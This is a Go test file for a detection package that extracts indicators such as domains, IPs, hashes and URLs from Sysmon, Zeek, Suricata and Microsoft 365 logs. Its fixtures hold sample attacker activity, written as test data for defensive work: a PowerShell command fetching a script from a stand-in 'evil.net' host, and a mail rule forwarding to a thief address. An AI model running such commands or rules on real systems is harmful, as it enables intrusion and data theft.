package detect

import (
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/polder-exchange/polder/event"
	"github.com/polder-exchange/polder/indicator"
	"github.com/polder-exchange/polder/internal/testdata"
)

// eventsOf decodes a text with this package's reader of logs and calls each for every event.
func eventsOf(t testing.TB, text, name string, format event.Format, each func(ev *event.Event)) {
	t.Helper()
	s, err := event.Open(strings.NewReader(text), event.Options{Name: name, Format: format})
	if err != nil {
		t.Fatal(err)
	}
	d := s.NewDecoder()
	var ev event.Event
	for {
		c, err := s.Next()
		if err != nil {
			return
		}
		d.Decode(c, &ev, func(err *event.Error) bool {
			if err != nil {
				t.Fatal(err)
			}
			each(&ev)
			return true
		})
	}
}

// observed is what an event holds, sorted: kind, value.
func observed(o *Observer, ev *event.Event) (out []string) {
	o.Observe(ev, func(kind indicator.Kind, value []byte, _ event.Name) {
		if kind != "" {
			out = append(out, string(kind)+" "+string(value))
		}
	})
	slices.Sort(out)
	return slices.Compact(out)
}

func TestObserve(t *testing.T) {
	hash := func(n int) string { return strings.Repeat("aB", n/2) }
	low := func(n int) string { return strings.Repeat("ab", n/2) }
	for _, c := range []struct{ name, text, want string }{
		{"Sysmon", `{"Event":{"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-Sysmon"}},"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational"},"EventData":{"UtcTime":"2026-01-01 00:00:00.000","Image":"C:\\Tools\\Evil.exe","Hashes":"SHA1=` + hash(40) + `,MD5=` + hash(32) + `,SHA256=` + hash(64) + `,IMPHASH=` + hash(32) + `","CommandLine":"powershell iwr 'http://Evil.net/a.ps1'; x","ParentImage":"C:\\Windows\\explorer.exe","ProcessGuid":"{11111111-2222-3333-4444-555555555555}"}}}`,
			"domain evil.net,filename evil.exe,filename explorer.exe,imphash " + low(32) + ",md5 " + low(32) + ",sha1 " + low(40) + ",sha256 " + low(64) + ",url http://evil.net/a.ps1"},
		{"Sysmon DNS", `{"Event":{"System":{"EventID":22,"Channel":"Microsoft-Windows-Sysmon/Operational"},"EventData":{"QueryName":"WWW.Evil.net","QueryResults":"type:  5 alias.evil.net;::ffff:45.1.1.1;2a03:2880::1;"}}}`,
			"domain alias.evil.net,domain www.evil.net,ipv4 45.1.1.1,ipv6 2a03:2880::1"},
		{"Zeek", `{"ts":1588205199.8,"uid":"Cvf4XX17hSAgXDdGEd","id.orig_h":"10.0.1.6","id.orig_p":54243,"id.resp_h":"45.1.1.1","id.resp_p":53,"proto":"udp","query":"evil.net","qtype_name":"A","answers":["45.1.1.2","cdn.evil.net"],"rejected":false}`,
			"domain cdn.evil.net,domain evil.net,ipv4 10.0.1.6,ipv4 45.1.1.1,ipv4 45.1.1.2"},
		{"EVE", `{"timestamp":"2026-01-01T00:00:00.000000+0000","flow_id":1,"event_type":"tls","src_ip":"10.1.1.1","src_port":1,"dest_ip":"2a03:2880::0001","dest_port":443,"proto":"TCP","tls":{"sni":"evil.net","serial":"0A:1B","fingerprint":"` + strings.Repeat("0A:", 19) + `0a","ja3":{"hash":"` + hash(32) + `","string":"771,1"}}}`,
			"certificate-hash " + strings.Repeat("0a", 20) + ",certificate-serial a1b,domain evil.net,ipv4 10.1.1.1,ipv6 2a03:2880::1,ja3 " + low(32)},
		{"Microsoft 365", `{"CreationTime":"2026-01-01T00:00:00","Operation":"New-InboxRule","Workload":"Exchange","UserId":"eve@own.nl","ClientIP":"[2a03:2880::1]:443","Parameters":[{"Name":"ForwardTo","Value":"Thief@Evil.net"}],"RecordType":1,"OrganizationId":"x"}`,
			"domain evil.net,domain own.nl,email eve@own.nl,email thief@evil.net,ipv6 2a03:2880::1"},
		{"ECS", `{"@timestamp":"2026-01-01T00:00:00Z","ecs":{"version":"8.11.0"},"url":{"full":"https://evil.net:443/x#y","domain":"evil.net"},"source":{"ip":"10.1.1.1"},"file":{"hash":{"sha512":"` + hash(128) + `"},"path":"/tmp/a.bin"},"user_agent":{"original":"Evil/1.0"}}`,
			"domain evil.net,filename a.bin,ipv4 10.1.1.1,sha512 " + low(128) + ",url https://evil.net/x,user-agent Evil/1.0"},
		{"by its form", `{"a":"45.1.1.1","b":"2a03:2880::1","c":"evil.net","d":"` + hash(64) + `","e":"http://45.1.1.2:8080/x","f":"see https://evil.org/y, please","g":"1.2.3","h":"svchost.exe","i":"12:30:45","j":12345678,"k":"` + strings.Repeat("1", 32) + `","l":"deadbeef","m":"eve@evil.com","n":"not a.name here"}`,
			"domain evil.com,domain evil.net,domain evil.org,email eve@evil.com,ipv4 45.1.1.1,ipv4 45.1.1.2,ipv6 2a03:2880::1,sha256 " + low(64) + ",url http://45.1.1.2:8080/x,url https://evil.org/y"},
		{"escapes", `{"url":"http:\/\/evil.net\/x","file":{"path":"C:\\dir\\\u00c4rger.exe"}}`, "domain evil.net,filename ärger.exe,url http://evil.net/x"},
	} {
		o := NewObserver()
		n := 0
		eventsOf(t, c.text+"\n", c.name+".json", "", func(ev *event.Event) {
			n++
			for range 2 { // the second time from what was remembered
				if got := strings.Join(observed(o, ev), ","); got != c.want {
					t.Errorf("%s:\ngot  %s\nwant %s", c.name, got, c.want)
				}
			}
		})
		if n != 1 {
			t.Errorf("%s: %d events", c.name, n)
		}
	}
}

// TestObserveBounds: one value that is very long or a list without end costs a bounded number of observables.
func TestObserveBounds(t *testing.T) {
	for name, value := range map[string]string{"urls": strings.Repeat("http://evil.net/x ", 100_000), "answers": strings.Repeat("1.2.3.4;", 100_000), "to": strings.Repeat("a@evil.net,", 100_000),
		"Hashes": strings.Repeat("MD5="+strings.Repeat("ab", 16)+",", 10_000), "Image": strings.Repeat(`a\`, 100_000), "x": strings.Repeat("a.", 100_000), "host": strings.Repeat(":", 100_000)} {
		n := 0
		eventsOf(t, fmt.Sprintf("{%q:%q}\n", name, value), "x.json", "json", func(ev *event.Event) {
			NewObserver().Observe(ev, func(indicator.Kind, []byte, event.Name) { n++ })
		})
		if n > 2*maxParts {
			t.Errorf("%s: %d observables", name, n)
		}
	}
}

// TestObserveNoAllocation: an event whose fields were met before costs no memory.
func TestObserveNoAllocation(t *testing.T) {
	o, k := NewObserver(), NewKnowledge(nil)
	m := k.NewMatcher()
	text := `{"src_ip":"10.1.1.1","dest_ip":"2a03:2880::1","url":"http://evil.net/x?y","Image":"C:\\Windows\\x.exe","Hashes":"MD5=` + strings.Repeat("ab", 16) + `","query":"a.b.evil.net","x":"see https://evil.org/y"}` + "\n"
	eventsOf(t, text, "x.json", "json", func(ev *event.Event) {
		n := 0
		count := func(indicator.Kind, []byte, event.Name) { n++ }
		if a := testing.AllocsPerRun(100, func() { o.Observe(ev, count); m.Match(ev) }); a > 0 || n == 0 {
			t.Errorf("%d observables, %v allocations", n, a)
		}
	})
}

// zeekDay is the JSON log of one sensor of the data set, all its streams together.
func zeekDay(t testing.TB, pattern string) []string {
	files, err := filepath.Glob(filepath.Join(filepath.Dir(testdata.File(t, "detect", "zeek-apt29", "day1")), pattern))
	if err != nil || len(files) == 0 {
		t.Fatalf("no files %s: %v", pattern, err)
	}
	return files
}

// TestObserveZeek: the addresses, names and hashes of the adversary stand in real Zeek logs, and are found by a list.
func TestObserveZeek(t *testing.T) {
	k := NewKnowledge(nil)
	_, err := k.LoadFile(strings.NewReader("192.168.0.4;90\nd9105746ea023ecdc6a47e7b4d026d5308525b8c;the certificate\nnewyork.dmevals.local\n"), indicator.LoadOptions{Name: "own.txt"})
	if err != nil {
		t.Fatal(err)
	}
	m := k.NewMatcher()
	byEntry := map[string]int{}
	for _, file := range zeekDay(t, "day1/*.log") {
		raw, err := os.ReadFile(file)
		if err != nil {
			t.Fatal(err)
		}
		if len(raw) == 0 {
			continue
		}
		eventsOf(t, string(raw), file, "", func(ev *event.Event) {
			for _, h := range m.Match(ev) {
				byEntry[h.Entry]++
				if h.Origin.List != "own.txt" || h.ID == "" || h.Why == "" {
					t.Fatalf("%+v", h)
				}
			}
		})
	}
	for _, entry := range []string{"192.168.0.4", "newyork.dmevals.local"} {
		if byEntry[entry] == 0 {
			t.Errorf("%s was not found: %v", entry, byEntry)
		}
	}
	t.Log(byEntry)
}

// FuzzObserve: whatever stands in whatever field, what comes out is in the form that is looked up, and not without end.
func FuzzObserve(f *testing.F) {
	for _, seed := range [][2]string{{"Hashes", "MD5=" + strings.Repeat("ab", 16)}, {"url", "http://[::1]:80/x"}, {"x", "a@b.c"}, {"to", "<a@b.net>, c@d.org"}, {"QueryResults", "type: 5 a.net;::ffff:1.2.3.4;"},
		{"Image", `C:\a\b.exe:stream`}, {"ClientIP", "[::1]:443"}, {"message", "see http://a.net/x."}} {
		f.Add(seed[0], seed[1])
	}
	f.Fuzz(func(t *testing.T, field, value string) {
		n := 0
		ev := event.Event{Fields: []event.Field{{Name: event.Known([]byte(field)), Value: []byte(value)}}}
		NewObserver().Observe(&ev, func(kind indicator.Kind, value []byte, _ event.Name) {
			n++
			if kind == "" {
				return
			}
			if key, ok := indicator.AppendKey(nil, kind, value); !ok || string(key) != string(value) {
				t.Fatalf("%s %q has the key %q", kind, value, key)
			}
		})
		if n > 2*maxParts {
			t.Fatalf("%d observables", n)
		}
	})
}
